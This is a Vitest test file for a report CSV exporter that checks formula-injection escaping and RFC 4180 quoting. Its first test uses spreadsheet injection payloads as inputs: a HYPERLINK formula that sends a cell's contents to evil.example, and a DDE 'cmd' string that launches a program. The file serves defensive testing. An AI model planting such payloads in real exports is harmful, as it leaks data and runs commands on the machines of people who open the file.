// The CSV a manager downloads: RFC 4180 quoting, and no cell a spreadsheet would run as a formula.
import { describe, expect, it } from 'vitest';
import { csvField, csvTable } from './csv.js';

describe('report CSV', () => {
  it('puts an apostrophe before a name a spreadsheet would run as a formula', () => {
    expect(csvField('=HYPERLINK("https://evil.example/?x="&A1,"Lucía")')).toBe(
      `"'=HYPERLINK(""https://evil.example/?x=""&A1,""Lucía"")"`,
    );
    expect(csvField('+34 600 000 000')).toBe("'+34 600 000 000");
    expect(csvField("-2+3+cmd|' /C calc'!A0")).toBe("'-2+3+cmd|' /C calc'!A0");
    expect(csvField('@SUM(1+1)')).toBe("'@SUM(1+1)");
    expect(csvField('\t=1+1')).toBe("'\t=1+1");
  });

  it('leaves names and figures that are no formula as they are', () => {
    expect(csvField('Lucía Ortega')).toBe('Lucía Ortega');
    expect(csvField('東京サポート')).toBe('東京サポート');
    expect(csvField('a=b')).toBe('a=b');
    expect(csvField(0.25)).toBe('0.25');
    expect(csvField(-3)).toBe('-3');
  });

  it('quotes commas, quotes and line breaks, and ends every line with CRLF', () => {
    expect(csvField('Ortega, Lucía')).toBe('"Ortega, Lucía"');
    expect(csvField('Lucía "Lu" Ortega')).toBe('"Lucía ""Lu"" Ortega"');
    expect(csvField('first\nsecond')).toBe('"first\nsecond"');
    expect(csvTable([{ figure: 'approved', translator: 'Ortega, Lucía', value: 2 }])).toBe(
      'figure,day,source,target,mode,engine,translator,value\r\n' +
        'approved,,,,,,"Ortega, Lucía",2\r\n',
    );
  });
});
